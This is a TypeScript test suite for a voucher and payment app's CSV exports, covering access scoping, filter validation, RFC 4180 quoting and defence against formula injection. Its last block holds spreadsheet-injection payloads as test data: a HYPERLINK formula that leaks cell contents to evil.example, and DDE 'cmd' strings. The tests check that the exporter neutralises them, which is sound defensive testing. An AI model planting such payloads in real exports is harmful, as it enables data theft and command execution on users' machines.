import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { accrueDays } from '../../src/app/agreements/accrue-days.js';
import { adjustDays } from '../../src/app/agreements/adjust-days.js';
import { createAgreement } from '../../src/app/agreements/create-agreement.js';
import { submitPaymentRequest } from '../../src/app/payments/submit-payment-request.js';
import { approvePaymentRequest } from '../../src/app/payments/approve-payment-request.js';
import { organizations } from '../../src/db/schema/index.js';
import { bearer, buildTestApp, type TestApp } from '../support/app.js';
import { actorFor, demoEmails, makeVoucher, registerFabrikamForPayments } from '../support/voucher-factory.js';

let t: TestApp;
const awkward = 'Q1, "bonus" days\r\nsecond line — Zoë, 東京';
let agreementId: string;
let redeemedCodes: string[];
let reference: string;

beforeAll(async () => {
  t = await buildTestApp({ at: '2021-03-01T09:00:00.000Z' });
  const operator = await actorFor(t, demoEmails.operator);
  t.clock.set('2021-01-20T10:00:00.000Z');
  const agreement = await createAgreement(t.ctx, operator, t.demo.organizationIds['Northwind Traders']!, {
    programId: t.demo.programId,
    licensingId: 'NW-EXPORT-1',
    endsOn: '2023-12-31',
  });
  agreementId = agreement.id;
  await accrueDays(t.ctx, operator, agreement.id, { days: 7, note: awkward });
  t.clock.set('2021-03-01T09:00:00.000Z');
  const redeemed = [await makeVoucher(t), await makeVoucher(t, { days: 3 })];
  redeemedCodes = redeemed.map((v) => v.code);
  await makeVoucher(t, { until: 'assigned' });
  await registerFabrikamForPayments(t);
  const partner = await actorFor(t, demoEmails.partner);
  const request = await submitPaymentRequest(t.ctx, partner, {
    voucherIds: redeemed.map((v) => v.id),
    invoiceNumber: 'INV "7", Zoë',
    invoiceDate: '2021-03-01',
  });
  reference = request.reference;
  await approvePaymentRequest(t.ctx, await actorFor(t, demoEmails.finance), request.id);
});
afterAll(async () => {
  await t.close();
});

async function download(email: string, url: string) {
  const token = await t.login(email);
  const response = await t.app.inject({ method: 'GET', url: `/api/v1${url}`, headers: bearer(token) });
  return response;
}

function records(body: string): Record<string, string>[] {
  return parse<Record<string, string>>(body, { columns: true, record_delimiter: '\r\n' });
}

describe('CSV exports', () => {
  it('streams the vouchers a caller may list, as text/csv with a header row and ISO 8601 UTC instants', async () => {
    const response = await download(demoEmails.benefitAdmin, '/exports/vouchers.csv');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.body.split('\r\n')[0]).toMatch(/^id,code,status,/);
    const rows = records(response.body);
    expect(rows.length).toBeGreaterThanOrEqual(3);
    expect(rows.every((r) => r.organizationId === t.demo.organizationIds['Northwind Traders'])).toBe(true);
    expect(rows[0]!.createdAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
    const list = await t.app.inject({
      method: 'GET',
      url: '/api/v1/vouchers?limit=200',
      headers: bearer(await t.login(demoEmails.benefitAdmin)),
    });
    expect(rows.map((r) => r.id)).toEqual(list.json<{ items: { id: string }[] }>().items.map((v) => v.id));
  });

  it('scopes like the lists: a partner gets the vouchers it holds, another partner none', async () => {
    const fabrikam = records((await download(demoEmails.partner, '/exports/vouchers.csv')).body);
    expect(fabrikam.map((r) => r.code)).toEqual(expect.arrayContaining(redeemedCodes));
    expect(fabrikam.every((r) => r.partnerId === t.demo.organizationIds['Fabrikam Consulting'])).toBe(true);
    const tailspin = await download(demoEmails.otherPartner, '/exports/vouchers.csv');
    expect(tailspin.statusCode).toBe(200);
    expect(records(tailspin.body).filter((r) => redeemedCodes.includes(r.code!))).toEqual([]);
    expect(records((await download(demoEmails.otherPartner, '/exports/payment-requests.csv')).body)).toEqual([]);
    expect(records((await download(demoEmails.partner, '/exports/ledger.csv')).body)).toEqual([]);
  });

  it('validates filters like the lists, with a problem answer before any row', async () => {
    const bad = await download(demoEmails.benefitAdmin, '/exports/vouchers.csv?status=lost');
    expect(bad.statusCode).toBe(400);
    expect(bad.headers['content-type']).toMatch(/problem\+json/);
    expect(bad.json<{ errors: { path: string }[] }>().errors.map((e) => e.path)).toContain('query.status');
    const unknown = await download(demoEmails.benefitAdmin, '/exports/vouchers.csv?limit=5');
    expect(unknown.statusCode).toBe(400);
    const other = await download(demoEmails.otherPartner, `/exports/ledger.csv?agreementId=${agreementId}`);
    expect(other.statusCode).toBe(404);
    expect((await t.app.inject({ method: 'GET', url: '/api/v1/exports/vouchers.csv' })).statusCode).toBe(401);
  });

  it('quotes commas, quotes and line breaks by RFC 4180 and keeps non-ASCII text intact', async () => {
    const response = await download(demoEmails.benefitAdmin, `/exports/ledger.csv?agreementId=${agreementId}`);
    expect(response.statusCode).toBe(200);
    expect(response.body).toContain('"Q1, ""bonus"" days\r\nsecond line — Zoë, 東京"');
    const rows = records(response.body);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ kind: 'accrual', days: '7', note: awkward, licensingId: 'NW-EXPORT-1' });
    expect(rows[0]!.at).toBe('2021-01-20T10:00:00.000Z');
  });

  it('gives accounts payable the approved requests: reference, partner, invoice, country, currency, amount, vouchers', async () => {
    const response = await download(demoEmails.finance, '/exports/payment-requests.csv?status=approved');
    expect(response.statusCode).toBe(200);
    const row = records(response.body).find((r) => r.reference === reference);
    expect(row).toMatchObject({
      status: 'approved',
      partnerName: 'Fabrikam Consulting',
      invoiceNumber: 'INV "7", Zoë',
      invoiceDate: '2021-03-01',
      country: 'US',
      overdue: 'false',
    });
    expect(row!.voucherCodes!.split(' ').sort()).toEqual([...redeemedCodes].sort());
    expect(Number(row!.amount) * 100).toBe(Number(row!.amountMinor));
    expect(row!.currency).toMatch(/^[A-Z]{3}$/);
    const submitted = records(
      (await download(demoEmails.finance, '/exports/payment-requests.csv?status=submitted')).body,
    );
    expect(submitted.find((r) => r.reference === reference)).toBeUndefined();
  });

  it('exports the audit records with their before and after as JSON text', async () => {
    const rows = records(
      (await download(demoEmails.operator, `/exports/audit-events.csv?entityId=${agreementId}`)).body,
    );
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.entityId === agreementId)).toBe(true);
    const withAfter = rows.find((r) => r.after !== '');
    expect(() => JSON.parse(withAfter!.after!) as unknown).not.toThrow();
  });
});

describe('CSV exports against formula injection (decision 029)', () => {
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

  it('puts a quote before user text that a spreadsheet would run as a formula, never before a number', async () => {
    const operator = await actorFor(t, demoEmails.operator);
    // Before the program's accrual end date, like the agreement of the first block.
    t.clock.set('2021-01-20T10:00:00.000Z');
    const agreement = await createAgreement(t.ctx, operator, t.demo.organizationIds['Northwind Traders']!, {
      programId: t.demo.programId,
      licensingId: '+FORMULA-1',
      endsOn: '2023-12-31',
    });
    await accrueDays(t.ctx, operator, agreement.id, { days: 7, note: hyperlink });
    await accrueDays(t.ctx, operator, agreement.id, { days: 1, note: "\tcmd|' /C calc'!A0" });
    await adjustDays(t.ctx, operator, agreement.id, { days: -5, reason: "@SUM(1+1)*cmd|' /C calc'!A0" });
    await adjustDays(t.ctx, operator, agreement.id, { days: 1, reason: '-2+3' });
    await accrueDays(t.ctx, operator, agreement.id, { days: 2, note: '\rline' });
    t.clock.set('2021-03-01T09:00:00.000Z');
    const response = await download(demoEmails.operator, `/exports/ledger.csv?agreementId=${agreement.id}`);
    expect(response.statusCode).toBe(200);
    const rows = records(response.body);
    expect(rows.map((r) => [r.days, r.note, r.licensingId])).toEqual([
      ['2', "'\rline", "'+FORMULA-1"],
      ['1', "'-2+3", "'+FORMULA-1"],
      ['-5', "'@SUM(1+1)*cmd|' /C calc'!A0", "'+FORMULA-1"],
      ['1', "'\tcmd|' /C calc'!A0", "'+FORMULA-1"],
      ['7', `'${hyperlink}`, "'+FORMULA-1"],
    ]);
    // The numbers this export writes go out as they are: a debit is `-5`, not text.
    expect(response.body).toMatch(/,adjustment,-5,/);
  });

  it('neutralises an organisation name in every export that writes it, and leaves ordinary text alone', async () => {
    const fabrikam = t.demo.organizationIds['Fabrikam Consulting']!;
    await t.ctx.db.update(organizations).set({ name: hyperlink }).where(eq(organizations.id, fabrikam));
    try {
      const response = await download(demoEmails.finance, '/exports/payment-requests.csv?status=approved');
      const row = records(response.body).find((r) => r.reference === reference);
      expect(row).toMatchObject({ partnerName: `'${hyperlink}`, invoiceNumber: 'INV "7", Zoë', country: 'US' });
      expect(Number(row!.amount) * 100).toBe(Number(row!.amountMinor));
    } finally {
      await t.ctx.db.update(organizations).set({ name: 'Fabrikam Consulting' }).where(eq(organizations.id, fabrikam));
    }
  });
});
